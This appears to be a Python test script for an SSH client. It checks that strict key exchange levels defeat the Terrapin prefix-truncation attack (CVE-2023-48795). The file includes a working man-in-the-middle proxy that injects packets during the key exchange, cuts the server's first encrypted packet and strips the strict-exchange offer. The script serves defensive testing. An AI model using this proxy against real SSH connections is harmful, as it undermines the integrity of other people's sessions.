#!/usr/bin/python3
"""Strict key exchange, level by level, and the prefix truncation that it is there for
(CVE-2023-48795, Terrapin): a proxy between client and server puts a packet into the first key
exchange, where nothing is authenticated yet, and cuts the server's first encrypted packet off in
return, so that the sequence numbers fit again."""

import concurrent.futures
import functools
import os
import socket
import struct
import sys
import threading

import other_servers
import servers
import support

CHACHA = ("chacha20-poly1305@openssh.com", "hmac-sha2-256")
CBC_ETM = ("aes128-cbc", "hmac-sha2-256-etm@openssh.com")
CBC = ("aes128-cbc", "hmac-sha2-256")
CTR = ("aes128-ctr", "hmac-sha2-256")
CTR_ETM = ("aes128-ctr", "hmac-sha2-256-etm@openssh.com")
GCM = ("aes128-gcm@openssh.com", "hmac-sha2-256")
IGNORE, UNIMPLEMENTED, DEBUG, KEXINIT, NEWKEYS = 2, 3, 4, 20, 21
INSERTED = {  # a message nobody asked for -> its payload
    IGNORE: b"\x02" + struct.pack(">I", 0),
    UNIMPLEMENTED: b"\x03" + struct.pack(">I", 1),
    DEBUG: b"\x04\0" + struct.pack(">II", 0, 0),
}
STRICT_MARK = b"kex-strict-s-v00@openssh.com"
QUIET = 0.5  # after which the server has sent all that it sends of itself


class LaxAsyncSsh(other_servers.AsyncSsh):
    """AsyncSSH as it was before strict key exchange."""

    name = "AsyncSSH without strict key exchange"
    script = "lax_server.py"


# --- The proxy ------------------------------------------------------------------------------------


def pack(payload):
    """A packet without encryption."""
    padding = 8 - (5 + len(payload)) % 8
    padding += 8 if padding < 4 else 0
    body = bytes([padding]) + payload + bytes(padding)
    return struct.pack(">I", len(body)) + body


class Plain:
    """One direction before its keys: the version line, then packets."""

    def __init__(self, source):
        self.file = source.makefile("rb", buffering=0)

    def exactly(self, count):
        data = b""
        while len(data) < count:
            more = self.file.read(count - len(data))
            if not more:
                raise OSError("the other end is gone")
            data += more
        return data

    def line(self):
        line = b""
        while not line.endswith(b"\n"):
            line += self.exactly(1)
        return line

    def packet(self):
        """(message number, the packet as it came)"""
        head = self.exactly(4)
        body = self.exactly(int.from_bytes(head, "big"))
        return body[1], head + body


class Attacker(servers.Listener):
    """before: the server's message in front of which the packet goes in, or None; inserted: its
    number; is_cutting: whether the server's first packets after its NEWKEYS are dropped, which is
    EXT_INFO; is_unmarking: whether the server's offer of strict key exchange is overwritten."""

    def __init__(self, port, before=None, inserted=IGNORE, is_cutting=False, is_unmarking=False):
        self.target = port
        self.before = before
        self.inserted = inserted
        self.is_cutting = is_cutting
        self.is_unmarking = is_unmarking
        self.insertions = 0
        self.cut = b""
        super().__init__(self.attack)

    def attack(self, client):
        with socket.create_connection((servers.ADDRESS, self.target)) as server:
            is_cut = threading.Event()
            threading.Thread(
                target=self.to_server, args=(client, server, is_cut), daemon=True
            ).start()
            try:
                self.to_client(client, server, is_cut)
            finally:
                is_cut.set()
                client.shutdown(socket.SHUT_WR)

    def to_client(self, client, server, is_cut):
        plain = Plain(server)
        client.sendall(plain.line())
        number = None
        while number != NEWKEYS:
            number, packet = plain.packet()
            if number == KEXINIT and self.is_unmarking:
                packet = packet.replace(STRICT_MARK, STRICT_MARK[:-1] + b"-")
            if number == self.before:
                self.insertions += 1
                client.sendall(pack(INSERTED[self.inserted]))
            client.sendall(packet)
        if self.is_cutting:
            # Nothing of the client's gets through after its NEWKEYS yet, so what comes now is what
            # the server says unasked.
            server.settimeout(QUIET)
            try:
                while data := server.recv(65536):
                    self.cut += data
            except socket.timeout:
                pass
            server.settimeout(None)
        is_cut.set()
        servers.pump(server, client)

    def to_server(self, client, server, is_cut):
        try:
            plain = Plain(client)
            server.sendall(plain.line())
            number = None
            while number != NEWKEYS:
                number, packet = plain.packet()
                server.sendall(packet)
            is_cut.wait()
            servers.pump(client, server)
            server.shutdown(socket.SHUT_WR)
        except OSError:
            is_cut.set()


# --- Sessions -------------------------------------------------------------------------------------


def session(server, level, suite, *, policy=support.WIDEST, port=None, options=()):
    cipher, mac = suite
    chosen = [] if level is None else ["--set", f"UseStrictKeyExchange={level}"]
    return server.run(
        "echo said; exit 5", "--policy", policy, *chosen, "-c", cipher, "-m", mac, "-v", *options,
        port=port, timeout=40,
    )


def works(server, level, suite, is_strict, **more):
    done = session(server, level, suite, **more).expect(5, out=b"said\n")
    line = f"sexec: negotiated strict key exchange: {'yes' if is_strict else 'no'}\n"
    support.check(line in done.err, f"wanted {line!r}: {done}")


def own_line(done):
    """The failure's line: among those of -v, the only one with a code."""
    lines = [line for line in done.lines() if line.endswith(")") and "(code " in line]
    support.check(done.status == 255 and len(lines) == 1, f"wanted 255 and one code: {done}")
    return lines[0]


def refused(server, level, suite, code, *words, **more):
    done = session(server, level, suite, **more)
    line = own_line(done)
    for word in (f"(code {code})", *words):
        support.check(word in line, f"wanted {word!r}: {done}")
    support.check(done.out == b"", f"output came all the same: {done}")
    return line


def attacked(server, level, suite, *words, policy=support.WIDEST, seconds=10, **how):
    """The attack ends the session before the command."""
    with Attacker(server.port, **how) as proxy:
        done = session(
            server, level, suite, policy=policy, port=proxy.port,
            options=["--set", f"timeout={seconds}"],
        )
        line = own_line(done)
        support.check(done.out == b"" and "may still run" not in line, f"the command ran: {done}")
        support.check(proxy.connections == 1, f"{proxy.connections} connections were made")
        if how.get("before") is not None:
            support.check(proxy.insertions == 1, f"nothing was inserted: {done}")
        for word in words:
            support.check(word in line, f"wanted {word!r}: {done}")
    return line


def succeeds(server, level, suite, **how):
    """The attack goes unseen: what shows that the proxy is the real thing."""
    with Attacker(server.port, **how) as proxy:
        session(server, level, suite, port=proxy.port).expect(5, out=b"said\n")
        support.check(proxy.insertions == 1 and proxy.cut, "the proxy did nothing")
        return f"{len(proxy.cut)} bytes are missing"


# --- Cases ----------------------------------------------------------------------------------------


class Cases:
    """Cases that run side by side, as most of their time is waiting."""

    def __init__(self, report):
        self.report = report
        self.pool = concurrent.futures.ThreadPoolExecutor(max_workers=2 * os.cpu_count())

    def add(self, name, function, *arguments, **options):
        call = functools.partial(function, *arguments, **options)
        self.pool.submit(self.report.case, name, call)

    def end(self):
        self.pool.shutdown()
        return self.report.end()


TRUNCATE = {"before": NEWKEYS, "is_cutting": True}


def built(*suites):
    """Without SEXEC_LEGACY there is no CBC."""
    return [suite for suite in suites if support.HAS_LEGACY or suite not in (CBC, CBC_ETM)]


def show_levels(cases, strict, lax):
    """What each level says to a server that does it and to ones that don't."""
    for level in (1, 2, 3):
        for suite in built(CHACHA, CBC_ETM, GCM):
            cases.add(
                f"level {level}, {suite[0]}: {strict} is strict", works, strict, level, suite, True
            )
    if support.HAS_LEGACY:  # no other policy may be told 0
        cases.add(f"level 0: {strict} isn't asked", works, strict, 0, CHACHA, False)
    cases.add(
        "policy fips won't be told 0", refused, strict, 0, CTR, 3005, "policy fips", "1",
        policy="fips", options=support.fips_setups()[0].options,
    )
    for server, suites in lax.items():
        for suite in built(*suites):
            is_affected = suite in (CHACHA, CBC_ETM)
            name = f"{suite[0]} with {suite[1]}, {server}"
            if support.HAS_LEGACY:
                cases.add(f"level 0, {name}", works, server, 0, suite, False)
            cases.add(f"level 1, {name}", works, server, 1, suite, False)
            if is_affected:
                cases.add(
                    f"level 2, {name}: refused", refused, server, 2, suite, 1003, "strict",
                    "UseStrictKeyExchange=2", suite[0],
                )
            else:
                cases.add(f"level 2, {name}", works, server, 2, suite, False)
            cases.add(
                f"level 3, {name}: refused", refused, server, 3, suite, 1003, "strict",
                "UseStrictKeyExchange=3",
            )
            if is_affected:
                cases.add(
                    f"policy default, {name}: refused", refused_by_default, server, suite
                )


def refused_by_default(server, suite):
    """Policy default has level 2 by itself; CBC it doesn't have at all."""
    if suite == CBC_ETM:
        return refused(server, None, suite, 3005, "policy default", policy="default")
    return refused(server, None, suite, 1003, "strict", policy="default")


def show_attacks(cases, strict, lax):
    if support.HAS_LEGACY:
        cases.add(
            "the truncation goes unseen at level 0", succeeds, strict, 0, CHACHA, **TRUNCATE
        )
    cases.add(
        f"the truncation goes unseen at level 1 by {lax}", succeeds, lax, 1, CHACHA, **TRUNCATE
    )
    for level in (1, 2, 3):
        for suite in built(CHACHA, CBC_ETM, CTR_ETM, GCM):
            cases.add(
                f"level {level}, {suite[0]} with {suite[1]}: truncation", attacked, strict, level,
                suite, "strict", **TRUNCATE,
            )
        for number in INSERTED:
            for before, text in ((KEXINIT, "KEXINIT"), (31, "the reply"), (NEWKEYS, "NEWKEYS")):
                # An answer to a packet that was never sent is refused before anything else.
                word = "packet 1" if (number, before) == (UNIMPLEMENTED, KEXINIT) else "strict"
                cases.add(
                    f"level {level}: message {number} before {text}", attacked, strict, level,
                    CHACHA, word, before=before, inserted=number,
                )
        cases.add(
            f"level {level}: only the cut", attacked, strict, level, CHACHA, is_cutting=True
        )
        cases.add(
            f"level {level}: the server's offer taken away", attacked, strict, level, CTR,
            is_unmarking=True,
        )
    cases.add(
        "policy default: truncation", attacked, strict, None, CHACHA, "strict", policy="default",
        **TRUNCATE,
    )
    # What level 2 lets through without strict key exchange isn't open to the cut. CBC goes on
    # reading when a length makes no sense, so as not to tell which, and ends in a timeout.
    for suite in built(CTR, CTR_ETM, CBC, GCM):
        seconds = 2 if suite == CBC else 10
        for level, server in ((0, strict), (2, lax)):
            if level == 0 and not support.HAS_LEGACY:
                continue
            cases.add(
                f"level {level}, {suite[0]} with {suite[1]}, {server}: truncation is seen",
                attacked, server, level, suite, seconds=seconds, **TRUNCATE,
            )


def main():
    cases = Cases(support.Report())
    strict = other_servers.start(other_servers.OpenSsh)
    paramiko = other_servers.start(other_servers.Paramiko)
    lax = other_servers.start(LaxAsyncSsh)
    support.check(strict.is_strict, "this machine's OpenSSH does no strict key exchange")
    support.check(not paramiko.is_strict and not lax.is_strict, "a lax server is strict")
    show_levels(cases, strict, {paramiko: (CTR, CBC, CBC_ETM), lax: (CHACHA, CBC_ETM, GCM)})
    show_attacks(cases, strict, lax)
    return cases.end()


if __name__ == "__main__":
    sys.exit(main())
